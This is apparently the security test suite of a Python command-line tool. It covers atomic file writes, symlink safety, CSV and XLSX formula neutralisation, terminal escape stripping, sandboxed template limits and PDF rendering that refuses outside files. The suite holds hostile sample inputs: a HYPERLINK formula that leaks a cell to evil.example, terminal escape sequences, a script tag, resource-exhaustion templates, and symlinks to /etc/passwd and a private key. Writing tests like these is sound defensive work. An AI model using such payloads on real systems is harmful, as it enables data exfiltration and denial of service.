"""Nothing lost, nothing leaked: atomic files, contained rendering, safe cells, store paths.

Each test is one case a hostile tester found; its name says which.
"""

from __future__ import annotations

import errno
import hashlib
import os
import stat
from pathlib import Path

import pytest

from coordkit import files
from coordkit.errors import InvalidInput
from coordkit.files import atomic_write, read_limited, safe_stored_name, store_by_hash
from tests.conftest import ok, run_coord

# ---------------------------------------------------------------- 1. coordkit/files.py


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".coord-tmp"))


def test_atomic_write_replaces_the_whole_file_and_leaves_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "out" / "ws.yaml"
    atomic_write(target, "猎德\n")
    assert target.read_bytes() == "猎德\n".encode()
    atomic_write(target, b"\x00\x01")
    assert target.read_bytes() == b"\x00\x01"
    assert leftovers(target.parent) == []


def test_atomic_write_keeps_the_mode_of_the_file_it_replaces(tmp_path: Path) -> None:
    target = tmp_path / "ws.yaml"
    target.write_text("old")
    target.chmod(0o640)
    atomic_write(target, "new")
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    fresh = tmp_path / "fresh.yaml"
    mask = os.umask(0o022)
    try:
        atomic_write(fresh, "x")
    finally:
        os.umask(mask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o644


def test_atomic_write_replaces_a_symlink_and_never_writes_through_it(tmp_path: Path) -> None:
    secret = tmp_path / "authorized_keys"
    secret.write_text("ssh-ed25519 AAAA the owner's key\n")
    link = tmp_path / "ws.yaml"
    link.symlink_to(secret)
    atomic_write(link, "exported\n")
    assert not link.is_symlink()
    assert link.read_text() == "exported\n"
    assert secret.read_text() == "ssh-ed25519 AAAA the owner's key\n"


def test_atomic_write_to_a_pipe_writes_through_and_leaves_the_pipe(tmp_path: Path) -> None:
    """``-o /dev/null`` once replaced the machine's /dev/null by a regular file: devices and pipes are written
    straight through (a named pipe stands in for /dev/null here)."""
    import threading

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(pipe.read_bytes()))
    reader.start()
    atomic_write(pipe, "matrix\n")
    reader.join(timeout=10)
    assert got == [b"matrix\n"]
    assert stat.S_ISFIFO(pipe.stat().st_mode) and sorted(p.name for p in tmp_path.iterdir()) == ["pipe", "work"]


def test_atomic_write_to_a_folder_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    with pytest.raises(InvalidInput) as caught:
        atomic_write(tmp_path / "docs", "x")
    assert str(caught.value) == f"cannot write {tmp_path / 'docs'}: it is a folder; name a file"


def test_atomic_write_disk_full_keeps_the_old_file_and_removes_the_temporary(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "ws.yaml"
    target.write_text("old and whole\n")

    def full(fd: int, data: bytes) -> None:
        os.write(fd, bytes(data[:10]))
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(files, "_write_all", full)
    with pytest.raises(InvalidInput) as caught:
        atomic_write(target, "x" * 100_000)
    assert str(caught.value) == (
        f"cannot write {target}: the disk is full; free some space and try again; the old file, if any, is unchanged"
    )
    assert target.read_text() == "old and whole\n"
    assert leftovers(tmp_path) == []


def test_atomic_write_ctrl_c_removes_the_temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "ws.yaml"
    target.write_text("old\n")

    def interrupted(fd: int) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(files.os, "fsync", interrupted)
    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, "new\n")
    monkeypatch.undo()
    assert target.read_text() == "old\n"
    assert leftovers(tmp_path) == []


def test_atomic_write_permission_denied_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def denied(**_kwargs: object) -> tuple[int, str]:
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))

    monkeypatch.setattr(files.tempfile, "mkstemp", denied)  # the tests run as root, whom chmod does not stop
    with pytest.raises(InvalidInput) as caught:
        atomic_write(tmp_path / "ws.yaml", "x")
    assert str(caught.value) == (
        f"cannot write {tmp_path / 'ws.yaml'}: permission denied; choose a folder you may write to"
    )


def test_atomic_write_under_a_file_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "plain").write_text("x")
    with pytest.raises(InvalidInput) as caught:
        atomic_write(tmp_path / "plain" / "ws.yaml", "x")
    assert str(caught.value).startswith(f"cannot write {tmp_path / 'plain' / 'ws.yaml'}: ")
    assert "\n" not in str(caught.value)


def test_store_by_hash_copies_under_the_hash_with_a_safe_extension(tmp_path: Path) -> None:
    scan = tmp_path / "Signed Scan.PDF"
    scan.write_bytes(b"%PDF-1.7 signed" * 100_000)  # 1.5 MB: more than one chunk
    digest = hashlib.sha256(scan.read_bytes()).hexdigest()
    assert store_by_hash(scan, tmp_path / "scans", limit=10_000_000) == (digest, digest + ".pdf")
    assert (tmp_path / "scans" / (digest + ".pdf")).read_bytes() == scan.read_bytes()
    odd = tmp_path / "scan.<script>"
    odd.write_bytes(b"x")
    assert store_by_hash(odd, tmp_path / "scans", limit=10)[1] == hashlib.sha256(b"x").hexdigest()
    assert leftovers(tmp_path / "scans") == []


def test_store_by_hash_replaces_a_piece_left_by_a_killed_copy(tmp_path: Path) -> None:
    scan = tmp_path / "scan.png"
    scan.write_bytes(b"\x89PNG whole scan" * 1000)
    digest = hashlib.sha256(scan.read_bytes()).hexdigest()
    folder = tmp_path / "scans"
    folder.mkdir()
    (folder / (digest + ".png")).write_bytes(b"\x89PNG who")  # what a kill mid-copy left
    assert store_by_hash(scan, folder, limit=1_000_000) == (digest, digest + ".png")
    assert (folder / (digest + ".png")).read_bytes() == scan.read_bytes()


def test_store_by_hash_keeps_a_matching_copy_and_replaces_a_link(tmp_path: Path) -> None:
    scan = tmp_path / "scan.jpg"
    scan.write_bytes(b"jpeg")
    digest = hashlib.sha256(b"jpeg").hexdigest()
    folder = tmp_path / "scans"
    folder.mkdir()
    (folder / (digest + ".jpg")).symlink_to(scan)  # same bytes, but a link: replaced by a real copy
    store_by_hash(scan, folder, limit=100)
    kept = folder / (digest + ".jpg")
    assert not kept.is_symlink() and kept.read_bytes() == b"jpeg"
    before = kept.stat().st_ino
    store_by_hash(scan, folder, limit=100)
    assert kept.stat().st_ino == before  # the same content is left where it is


def test_store_by_hash_refuses_above_the_limit_and_devices(tmp_path: Path) -> None:
    big = tmp_path / "big.pdf"
    big.write_bytes(b"x" * 2048)
    with pytest.raises(InvalidInput) as caught:
        store_by_hash(big, tmp_path / "scans", limit=1024)
    assert str(caught.value) == f"--scan {big} is larger than the limit of 1 KB; use a smaller file"
    with pytest.raises(InvalidInput) as caught:
        store_by_hash(Path("/dev/zero"), tmp_path / "scans", limit=1024)
    assert str(caught.value) == "--scan /dev/zero is not a regular file (a device, pipe or folder); name a file"
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(InvalidInput, match="is not a regular file"):  # and does not block waiting for a writer
        store_by_hash(fifo, tmp_path / "scans", limit=1024, what="--evidence")
    assert not (tmp_path / "scans").exists()  # refused before anything was made


def test_safe_stored_name() -> None:
    digest = "ab" * 32
    assert safe_stored_name(digest)
    assert safe_stored_name(digest + ".pdf")
    for bad in (
        "../" + digest,
        digest + "/x",
        digest + ".",
        digest + ".PDF",
        digest + ".toolongext",
        digest.upper(),
        digest[:-1],
        digest + "\n",
        "..",
        "",
    ):
        assert not safe_stored_name(bad), bad


def test_read_limited(tmp_path: Path) -> None:
    small = tmp_path / "minutes.txt"
    small.write_bytes(b"12345")
    assert read_limited(small, limit=5, what="--minutes") == b"12345"
    with pytest.raises(InvalidInput) as caught:
        read_limited(small, limit=4, what="--minutes")
    assert str(caught.value) == f"--minutes {small} is larger than the limit of 4 B; use a smaller file"
    with pytest.raises(InvalidInput, match=r"^--minutes /dev/zero is not a regular file"):
        read_limited(Path("/dev/zero"), limit=4, what="--minutes")
    with pytest.raises(InvalidInput, match="cannot read it"):
        read_limited(tmp_path / "missing", limit=4, what="--minutes")


# ---------------------------------------------------------------- 2. every file the CLI writes is written atomically

EXAMPLE = Path(__file__).resolve().parent.parent / "agreements" / "liede-renjia.yaml"
KILL_AT = Path(__file__).resolve().parent / "kill_at.py"


@pytest.fixture(scope="module")
def example_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Liede Renjia example in a store: 19 KB of export, four agreements."""

    db = tmp_path_factory.mktemp("example") / "coord.db"
    for args in (("init",), ("apply", str(EXAMPLE))):
        result = run_coord("--db", str(db), *args)
        assert result.exit_code == 0, result.stderr
    return db


def spy_on_atomic_write(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    written: list[Path] = []
    real = files.atomic_write

    def spy(path: Path, content: bytes | str, **options: bool) -> None:
        written.append(Path(path))
        real(path, content, **options)

    monkeypatch.setattr(files, "atomic_write", spy)
    return written


def test_export_render_and_demo_write_through_atomic_write(
    example_store: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:

    from coordkit.services.demo import _write

    written = spy_on_atomic_write(monkeypatch)
    ok("--db", str(example_store), "export", "-o", "ws.yaml")
    ok("--db", str(example_store), "agreement", "render", "AGR-2024-001", "-f", "md", "-o", "one.md")
    ok("--db", str(example_store), "agreement", "render", "--all", "-f", "md", "-o", "docs")
    _write(isolated / "demo.html", "<p>demo</p>")
    assert [p.name for p in written] == [
        "ws.yaml",
        "one.md",
        "AGR-2024-001-v1.en.md",
        "AGR-2024-002-v1.en.md",
        "AGR-2024-003-v1.en.md",
        "AGR-2024-004-v1.en.md",
        "demo.html",
    ]
    assert (isolated / "ws.yaml").read_text(encoding="utf-8") == ok("--db", str(example_store), "export")


def test_export_over_a_symlink_replaces_the_link_not_its_target(example_store: Path, isolated: Path) -> None:

    secret = isolated / "authorized_keys"
    secret.write_text("the owner's key\n")
    (isolated / "ws.yaml").symlink_to(secret)
    ok("--db", str(example_store), "export", "-o", "ws.yaml")
    assert secret.read_text() == "the owner's key\n"
    assert not (isolated / "ws.yaml").is_symlink()
    assert (isolated / "ws.yaml").read_text(encoding="utf-8") == ok("--db", str(example_store), "export")


def _limit_file_size() -> None:
    import resource
    import signal

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead of killing
    resource.setrlimit(resource.RLIMIT_FSIZE, (8192, 8192))


@pytest.mark.slow
def test_a_write_the_os_refuses_half_way_leaves_the_old_file(isolated: Path) -> None:
    """A real failure half-way (the OS refuses bytes past 8 KB of 18 KB, as a full disk would): exit 2, old file kept.

    ``coord schema`` writes through the same ``write_out`` as export and opens
    no store (SQLite's 32 KB shared-memory file would trip the limit first).
    """
    import subprocess
    import sys

    (isolated / "schema.json").write_text("old and whole\n")
    result = subprocess.run(
        [sys.executable, "-m", "coordkit", "schema", "-o", "schema.json"],
        capture_output=True,
        text=True,
        preexec_fn=_limit_file_size,
        check=False,
    )
    assert result.returncode == 2, result.stderr
    assert result.stderr == (
        "Error: cannot write schema.json: the file is larger than this system or account allows; "
        "the old file, if any, is unchanged\n"
    )
    assert (isolated / "schema.json").read_text() == "old and whole\n"
    assert leftovers(isolated) == []


def test_export_on_a_full_disk_exits_2_and_keeps_the_old_file(
    example_store: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:

    def full(fd: int, data: bytes) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    (isolated / "ws.yaml").write_text("old and whole\n")
    monkeypatch.setattr(files, "_write_all", full)
    result = run_coord("--db", str(example_store), "export", "-o", "ws.yaml")
    assert result.exit_code == 2
    assert result.stderr == (
        "Error: cannot write ws.yaml: the disk is full; free some space and try again; "
        "the old file, if any, is unchanged\n"
    )
    assert (isolated / "ws.yaml").read_text() == "old and whole\n"
    assert leftovers(isolated) == []


def test_render_all_into_an_existing_file_is_one_error(example_store: Path, isolated: Path) -> None:

    (isolated / "report.pdf").write_text("not a folder")
    result = run_coord("--db", str(example_store), "agreement", "render", "--all", "-o", "report.pdf")
    assert result.exit_code == 2
    assert result.stderr == (
        "Error: -o report.pdf is a file; with --all, -o names a folder to write the documents into\n"
    )
    assert (isolated / "report.pdf").read_text() == "not a folder"


def test_render_all_ctrl_c_says_how_many_files_were_written(
    example_store: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:

    from coordkit.render import documents

    real = documents.render_agreement
    calls = {"n": 0, "stop": 3}

    def interrupted(*args: object, **kwargs: object) -> str | bytes:
        calls["n"] += 1
        if calls["n"] == calls["stop"]:
            raise KeyboardInterrupt
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(documents, "render_agreement", interrupted)
    result = run_coord("--db", str(example_store), "agreement", "render", "--all", "-f", "md", "-o", "docs")
    assert result.exit_code == 130
    assert result.stderr == "Interrupted after writing 2 of 4 documents to docs/; each file there is complete.\n"
    assert sorted(p.name for p in (isolated / "docs").iterdir()) == ["AGR-2024-001-v1.en.md", "AGR-2024-002-v1.en.md"]
    calls.update(n=0, stop=1)
    result = run_coord("--db", str(example_store), "agreement", "render", "--all", "-f", "md", "-o", "docs2")
    assert result.exit_code == 130
    assert result.stderr == "Interrupted; nothing was changed by the unfinished command.\n"


def _kill(store: Path, cwd: Path, event: str, count: int, *args: str) -> None:
    import subprocess
    import sys

    result = subprocess.run(
        [sys.executable, str(KILL_AT), event, str(count), "--db", str(store), *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == -9, (event, count, result.returncode, result.stderr)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("event", "count", "survivor"),
    [
        ("write", 10, "old"),  # half-way through 19 chunks of 1 KB
        ("fsync", 1, "old"),  # all written and synced, not yet renamed
        ("replace", 1, "new"),  # renamed, folder not yet synced
    ],
)
def test_export_killed_at_any_point_leaves_the_old_file_or_the_whole_new_one(
    example_store: Path, isolated: Path, event: str, count: int, survivor: str
) -> None:

    whole = ok("--db", str(example_store), "export")
    assert len(whole) > 15_000
    (isolated / "ws.yaml").write_text("old and whole\n")
    _kill(example_store, isolated, event, count, "export", "-o", "ws.yaml")
    expected = "old and whole\n" if survivor == "old" else whole
    assert (isolated / "ws.yaml").read_text(encoding="utf-8") == expected
    assert [p.name for p in isolated.iterdir() if p.name != "ws.yaml" and not p.name.endswith(".coord-tmp")] == []


@pytest.mark.slow
def test_render_all_killed_mid_document_leaves_only_whole_documents(
    example_store: Path, isolated: Path, tmp_path: Path
) -> None:

    reference = tmp_path / "reference"
    ok("--db", str(example_store), "agreement", "render", "--all", "-f", "html", "-o", str(reference))
    first, second = sorted(reference.iterdir())[:2]
    chunks = -(-first.stat().st_size // 1024)
    assert second.stat().st_size > 3 * 1024
    _kill(example_store, isolated, "write", chunks + 2, "agreement", "render", "--all", "-f", "html", "-o", "docs")
    assert sorted(p.name for p in (isolated / "docs").iterdir() if not p.name.endswith(".coord-tmp")) == [first.name]
    assert (isolated / "docs" / first.name).read_bytes() == first.read_bytes()


# ---------------------------------------------------------------- 4. cells: spreadsheets, terminals, Markdown

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Names and titles a hostile tester typed: a formula, escape sequences, HTML, a bell."""

    db = str(tmp_path_factory.mktemp("hostile") / "coord.db")
    for args in (
        ["init"],
        ["stakeholder", "add", "evil", "--name", "<script>alert(1)</script>|x", "--kind", "other"],
        ["stakeholder", "add", "esc", "--name", "Title\x1b]0;pwned\x07 Clear\x1b[2J\x9b31m", "--kind", "other"],
        ["project", "add", "p", "--name", "P"],
        ["duty", "add", "link", "--title", EVIL_TITLE, "--category", "@SUM(A1)", "-p", "p"],
        ["duty", "add", "bell", "--title", "ring\x07\x1b[31mred\x7f", "--category", "-minus", "-p", "p"],
        ["duty", "add", "err", "--title", "#N/A", "-p", "p"],
        ["duty", "assign", "link", "evil", "--as", "R", "-p", "p"],
        ["duty", "assign", "bell", "esc", "--as", "A", "-p", "p"],
    ):
        ok("--db", db, *args)
    return db


def test_matrix_xlsx_stores_formula_text_as_text_and_drops_control_characters(hostile_db: str, isolated: Path) -> None:
    import openpyxl

    ok("--db", hostile_db, "matrix", "-f", "xlsx", "-o", "m.xlsx")
    sheet = openpyxl.load_workbook(isolated / "m.xlsx")["Matrix"]
    rows = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    link, bell = rows["link"], rows["bell"]
    assert (link[1].value, link[3].value) == ("@SUM(A1)", EVIL_TITLE)
    assert (link[1].data_type, link[3].data_type) == ("s", "s")  # never "f": no live formula
    assert link[1].quotePrefix and link[3].quotePrefix  # Excel keeps it text even when the cell is edited
    assert (bell[1].value, bell[3].value) == ("-minus", "ring[31mred")
    assert bell[1].quotePrefix and not bell[3].quotePrefix
    assert (rows["err"][3].value, rows["err"][3].data_type) == ("#N/A", "s")  # text, not Excel's error value
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_matrix_and_list_csv_neutralise_formula_cells(hostile_db: str) -> None:
    import csv
    import io

    rows = {row[2]: row for row in csv.reader(io.StringIO(ok("--db", hostile_db, "matrix", "-f", "csv")))}
    assert rows["link"][1:4] == ["'@SUM(A1)", "link", "'" + EVIL_TITLE]
    assert rows["bell"][1] == "'-minus"
    listed = {row[2]: row for row in csv.reader(io.StringIO(ok("--db", hostile_db, "duty", "list", "-f", "csv")))}
    assert "'" + EVIL_TITLE in listed["link"]


def test_csv_neutralises_only_text_cells() -> None:
    from coordkit.output import neutralise, to_csv

    row = {"n": -5, "f": -2.5, "t": "-5", "eq": "=1+1", "plus": "+86 20", "at": "@x", "tab": "\tx", "ok": "a=b"}
    assert to_csv([row], [(k, k) for k in row]) == "n,f,t,eq,plus,at,tab,ok\n-5,-2.5,'-5,'=1+1,'+86 20,'@x,'\tx,a=b\n"
    assert neutralise("\rx") == "'\rx"


def test_table_output_carries_no_escape_sequences_from_names(hostile_db: str) -> None:

    listed = ok("--db", hostile_db, "stakeholder", "list")
    assert "Title]0;pwned Clear[2J31m" in listed
    assert not any(ch in listed for ch in "\x1b\x07\x9b\x7f")
    matrix = ok("--db", hostile_db, "matrix")
    assert not any(ch in matrix for ch in "\x1b\x07\x9b\x7f")


def test_terminal_text_keeps_rich_colours_and_drops_everything_else() -> None:
    from coordkit.cli.display import _keep_colours, terminal_text

    assert terminal_text("a\x1b[31mb\tc\nd\x00\x9be") == "a[31mb\tc\nde"
    assert _keep_colours("\x1b[1mbold\x1b[0m \x1b]0;title\x07\x1b[2J") == "\x1b[1mbold\x1b[0m ]0;title[2J"


def test_markdown_escapes_html_and_pipes(hostile_db: str) -> None:

    md = ok("--db", hostile_db, "stakeholder", "list", "-f", "md")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;\\|x" in md
    assert "<script>" not in md and "\x1b" not in md
    matrix = ok("--db", hostile_db, "matrix", "-f", "md")
    assert "<" not in matrix.replace("&lt;", "")


# ---------------------------------------------------------------- 3. contained rendering


def render_source(workspace: Path, source: str, name: str = "t.html.j2", **context: object) -> str:
    from coordkit.render.environment import render

    (workspace / "templates").mkdir(exist_ok=True)
    (workspace / "templates" / name).write_text(source, encoding="utf-8")
    return render(name, dict(context), workspace)


def refused(workspace: Path, source: str) -> str:
    with pytest.raises(InvalidInput) as caught:
        render_source(workspace, source)
    message = str(caught.value)
    assert "\n" not in message
    return message


LIMITS = [
    ("{{ 'a' * 10**10 }}", "a value of 10,000,000,000 characters or items; a template may make at most 10,000,000"),
    ("{{ [1, 2] * 10**9 }}", "a value of 2,000,000,000 characters or items; a template may make at most 10,000,000"),
    ("{{ 10 ** (10 ** 10) }}", "a number of more than 30,102 digits; a template may make no larger ones"),
    ("{{ range(10**9) | list }}", "range() of 1,000,000,000 items; a template may ask for at most 100,000"),
    (
        "{% set ns = namespace(s='x' * 1000) %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "a value of 16,384,000 characters or items; a template may make at most 10,000,000",
    ),
    (
        "{% set ns = namespace(s=[0]) %}{% for i in range(40) %}{% set ns.s = ns.s + ns.s %}{% endfor %}",
        "a value of 16,777,216 characters or items; a template may make at most 10,000,000",
    ),
    (
        "{% set s = 'x' * 1000000 %}{{ [s] * 100 }}",
        "a value of 100,000,100 characters or items; a template may make at most 10,000,000",
    ),
    (
        "{{ 'a' | center(10**10) }}",
        "a value of 10,000,000,001 characters or items; a template may make at most 10,000,000",
    ),
    (
        "{{ 'a'.ljust(10**10) }}",
        "a value of 10,000,000,000 characters or items; a template may make at most 10,000,000",
    ),
    (
        "{{ '{:>9999999999}'.format(1) }}",
        "a value of 9,999,999,999 characters or items; a template may make at most 10,000,000",
    ),
    (
        "{{ '%*s' % (10**9, 'x') }}",
        "a value of 1,000,000,000 characters or items; a template may make at most 10,000,000",
    ),
    (
        "{% macro down(n) %}{{ down(n + 1) }}{% endmacro %}{{ down(1) }}",
        "macros call each other more than 100 levels deep (a macro that calls itself?)",
    ),
]


@pytest.mark.parametrize(("source", "problem"), LIMITS, ids=[f"limit{i}" for i in range(len(LIMITS))])
def test_template_limits_are_one_line_naming_template_line_and_problem(
    isolated: Path, source: str, problem: str
) -> None:
    assert refused(isolated, "\n" + source) == f"template t.html.j2, line 2: {problem}"


def test_template_wall_clock_limit_stops_nested_loops(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from coordkit.render import sandbox

    monkeypatch.setattr(sandbox, "TIME_LIMIT", 0.2)
    loops = "{% set r = range(100000) | list %}{% for a in r %}{% for b in r %}{% endfor %}{% endfor %}"
    assert refused(isolated, loops) == (
        "template t.html.j2, line 1: still rendering after 0.2 seconds (a loop that never ends?); "
        "a document may take at most that long"
    )


def test_template_output_is_capped(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from coordkit.render import sandbox

    monkeypatch.setattr(sandbox, "MAX_OUTPUT", 1000)
    assert render_source(isolated, "{% for i in range(100) %}123456789\n{% endfor %}") == "123456789\n" * 100
    assert refused(isolated, "{% for i in range(101) %}123456789\n{% endfor %}") == (
        "template t.html.j2: the document grew past 1,000 characters; a document may have at most that many"
    )


def test_template_including_itself_is_one_line(isolated: Path) -> None:
    assert refused(isolated, "x{% include 't.html.j2' %}") == (
        "template t.html.j2: templates or macros include or call themselves too deeply"
    )


def test_templates_within_the_limits_render_as_before(isolated: Path) -> None:
    source = (
        "{% for i in range(3) %}{{ i }}{% endfor %}|{{ '%5s' % 'ab' }}|{{ '{:>4}'.format(7) }}|"
        "{{ 'a,b' | replace(',', ';') }}|{{ [1, 2] | join('-') }}|{{ 'ab' * 3 }}|{{ [0] * 3 }}|{{ 2 ** 10 }}|"
        "{{ 'x' ~ 1 }}|{{ names | join(', ') }}|{{ 'a' | center(5) }}|{{ '-' * 3 }}"
    )
    assert render_source(isolated, source, names=["猎德", "<b>"]) == (
        "012|   ab|   7|a;b|1-2|ababab|[0, 0, 0]|1024|x1|猎德, &lt;b&gt;|  a  |---"
    )


def test_include_of_a_link_outside_the_templates_folder_is_refused(example_store: Path, isolated: Path) -> None:
    import shutil

    shutil.copy(example_store, isolated / "coord.db")
    templates = isolated / "templates"
    templates.mkdir()
    (templates / "evil.txt").symlink_to("/etc/passwd")
    (templates / "agreement.md.j2").write_text("{% include 'evil.txt' %}\n")
    result = run_coord("agreement", "render", "AGR-2024-001", "-f", "md")
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: template agreement.md.j2, line 1: evil.txt in {templates} is a link to /etc/passwd, "
        "outside that folder; copy the file in instead\n"
    )
    assert result.stdout == ""


def test_a_templates_folder_linked_outside_the_workspace_is_refused(tmp_path: Path, isolated: Path) -> None:
    elsewhere = tmp_path / "home-of-someone"
    elsewhere.mkdir()
    (elsewhere / "t.html.j2").write_text("hello")
    (isolated / "templates").symlink_to(elsewhere)
    from coordkit.render.environment import render

    with pytest.raises(InvalidInput) as caught:
        render("t.html.j2", {}, isolated)
    assert str(caught.value) == (
        f"{isolated / 'templates'} is a link to {elsewhere}, outside the workspace; "
        "copy the templates into the workspace"
    )


def test_docx_template_linked_outside_is_refused(isolated: Path, tmp_path: Path) -> None:
    from coordkit.render.docx import render_docx

    outside = tmp_path / "someone-elses.docx"
    outside.write_bytes(b"PK")
    (isolated / "templates").mkdir()
    (isolated / "templates" / "agreement.docx").symlink_to(outside)
    with pytest.raises(InvalidInput) as caught:
        render_docx({}, isolated)
    assert str(caught.value) == (
        f"agreement.docx in {isolated / 'templates'} is a link to {outside}, outside that folder; "
        "copy the file in instead"
    )


def tiny_png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def pdf_of(html: str, workspace: Path) -> bytes:
    from coordkit.render.pdf import html_to_pdf

    return html_to_pdf(f"<html><body><p>x</p>{html}</body></html>", lang="en", workspace=workspace)


def pdf_refusal(html: str, workspace: Path) -> str:
    with pytest.raises(InvalidInput) as caught:
        pdf_of(html, workspace)
    return str(caught.value)


def test_pdf_never_embeds_a_file_outside_the_template_folders(isolated: Path, tmp_path: Path) -> None:
    from coordkit.render.environment import builtin_dir

    secret = tmp_path / "secret.pem"
    secret.write_text("-----BEGIN PRIVATE KEY-----\n")
    (isolated / "templates").mkdir()
    folders = f"{isolated / 'templates'} or {builtin_dir()}"
    assert pdf_refusal(f'<a rel="attachment" href="{secret.as_uri()}">key</a>', isolated) == (
        f"the document asks for {secret.as_uri()}; a document may use only files in {folders} and data: URLs, "
        "so remove that reference from the template"
    )
    (isolated / "templates" / "key.pem").symlink_to(secret)
    assert pdf_refusal('<a rel="attachment" href="key.pem">key</a>', isolated) == (
        f"the document asks for {(isolated / 'templates' / 'key.pem').as_uri()}, a link to {secret} "
        "outside the template folders; copy the file in instead"
    )
    assert pdf_refusal('<img src="ftp://example.com/x.png">', isolated).startswith(
        "the document asks for ftp://example.com/x.png; "
    )


def test_pdf_makes_no_network_request(isolated: Path) -> None:
    import http.server
    import threading

    requests: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/style.css"
        assert pdf_refusal(f'<link rel="stylesheet" href="{url}">', isolated).startswith(
            f"the document asks for {url}; a document may use only files in "
        )
    finally:
        server.shutdown()
    assert requests == []


def test_pdf_uses_images_from_the_templates_folder_and_data_urls(isolated: Path) -> None:
    import base64
    import io

    from pypdf import PdfReader

    (isolated / "templates").mkdir()
    (isolated / "templates" / "logo.png").write_bytes(tiny_png())
    inline = "data:image/png;base64," + base64.b64encode(tiny_png()).decode()
    pdf = pdf_of(f'<img src="logo.png" width="20"><img src="{inline}" width="20">', isolated)
    assert len(PdfReader(io.BytesIO(pdf)).pages[0].images) == 2


def test_built_in_templates_fetch_nothing() -> None:
    """They name no stylesheet, image, font or link: the fetcher can never refuse them."""
    import re

    from coordkit.render.environment import builtin_dir

    for template in sorted(builtin_dir().glob("*.j2")):
        text = template.read_text(encoding="utf-8")
        assert re.findall(r"url\(|src=|href=|@import", text) == [], template.name


# ---------------------------------------------------------------- 5. store paths are paths


@pytest.mark.parametrize("name", ["data?x", "Who pays?", "a%20b", "x#y", "猎德 人家"])
def test_a_store_path_is_never_parsed_as_a_url(isolated: Path, name: str) -> None:
    from sqlalchemy.engine import make_url

    from coordkit.storage.location import for_init, locate

    made = for_init(Path(name), None, env={})
    assert made.path == isolated / name / "coord.db"
    assert made.root == isolated / name
    assert make_url(made.url).database == str(made.path)  # the URL string, parsed back, names the same file
    assert made.sqlalchemy_url().database == str(made.path)
    found = locate(f"{name}/coord.db", env={})
    assert found.path == made.path and found.source == "--db"


@pytest.mark.parametrize("name", ["data?x", "Who pays?", "a%20b"])
def test_init_add_list_in_a_folder_with_url_characters(
    isolated: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    ok("init", name)
    assert sorted(p.name for p in isolated.iterdir()) == [name]  # no stray "data" file beside it
    assert (isolated / name / "coord.db").is_file()
    ok("--db", name, "stakeholder", "add", "liede-sw", "--name", "Liede Social Work", "--kind", "other")
    assert (
        ok("--db", name, "stakeholder", "list", "-f", "csv").splitlines()[1].startswith("liede-sw,Liede Social Work,")
    )
    monkeypatch.chdir(isolated / name)
    assert "liede-sw" in ok("stakeholder", "list", "-f", "csv")


def test_store_urls_that_are_accepted(isolated: Path) -> None:
    from coordkit.storage.location import locate

    assert locate("sqlite:///rel%3Fx/coord.db", env={}).path == isolated / "rel?x" / "coord.db"
    assert locate("sqlite:////abs/coord.db", env={}).path == Path("/abs/coord.db")
    for url in ("postgresql://u:pw@db/coord", "postgres://u:pw@db/coord", "postgresql+psycopg://u:pw@db/coord"):
        server = locate(url, env={})
        assert (server.url, server.path, server.is_sqlite) == ("postgresql+psycopg://u:pw@db/coord", None, False)
        assert server.display == "postgresql+psycopg://u:***@db/coord"
    assert locate(None, env={"COORD_DB": "sqlite:///a.db"}).path == isolated / "a.db"


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("sqlite://", "--db 'sqlite://' names no file; use sqlite:///PATH, or just the path"),
